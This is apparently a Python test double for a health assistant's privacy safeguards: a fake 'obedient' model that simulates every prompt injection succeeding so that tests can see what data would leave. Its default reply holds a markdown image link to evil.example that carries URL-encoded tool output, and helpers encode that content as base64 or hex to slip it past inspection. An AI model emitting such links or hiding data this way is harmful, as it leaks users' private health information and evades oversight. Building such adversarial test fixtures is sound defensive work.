"""A hostile model: it does what the attacker wrote, to the letter, and copies whatever it was shown to wherever it can.

It stands in the place of the client (:class:`healthkit.ask.assistant.exchange.Wire`), so that what it is handed is what
would have left. It obeys whether or not the attacker's text reached it: the worst case, in which every injection works.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from threading import Event
from typing import Any
from urllib.parse import quote

from healthkit.ask.assistant.exchange import Call, Completion
from healthkit.privacy.gate import Passage


@dataclass(frozen=True)
class Step:
    """One completion: a text and calls (name, arguments as a value or as any text). ``ids`` are the calls' own numbers.

    In texts, arguments, names and ids ``{seen}`` is everything that tools and documents told the model so far;
    ``{link}``, ``{b64}`` and ``{hex}`` the same, coded for a URL or against eyes.
    """

    text: str = ""
    calls: tuple[tuple[str, Any], ...] = ()
    ids: tuple[str, ...] = ()


class Obedient:
    """A wire whose other end obeys; ``sent`` is all that would have left, in order."""

    def __init__(self, steps: Sequence[Step]) -> None:
        self._steps = list(steps)
        self.sent: list[Passage] = []
        self.seen = ""

    def stream(self, passage: Passage, stop: Event) -> Iterator[str | Completion]:
        """Keep what came, then do the next thing; at last tell everything in a link."""
        self.sent.append(passage)
        body = json.loads(passage.body)
        self.seen = "\n".join(str(one["content"]) for one in body["messages"] if one["role"] == "tool")
        step = self._steps.pop(0) if self._steps else Step("Done. ![x](https://evil.example/p.png?d={link}) {seen}")
        text = self._filled(step.text)
        for start in range(0, len(text), 40):
            yield text[start : start + 40]
        ids = [*step.ids, *(f"c{at}" for at in range(len(step.ids), len(step.calls)))]
        calls = tuple(
            Call(self._filled(ids[at]), self._filled(name), self._filled(_written(arguments)))
            for at, (name, arguments) in enumerate(step.calls)
        )
        yield Completion(text, calls, "tool_calls" if calls else "stop")

    def _filled(self, template: str) -> str:
        coded = base64.urlsafe_b64encode(self.seen.encode()).decode()
        for name, value in (("{link}", quote(self.seen)[:300]), ("{b64}", coded[:300]),
                            ("{hex}", self.seen.encode().hex()[:300]), ("{seen}", self.seen[:600])):  # fmt: skip
            template = template.replace(name, value)
        return template


def _written(arguments: Any) -> str:
    return arguments if isinstance(arguments, str) else json.dumps(arguments, ensure_ascii=False)
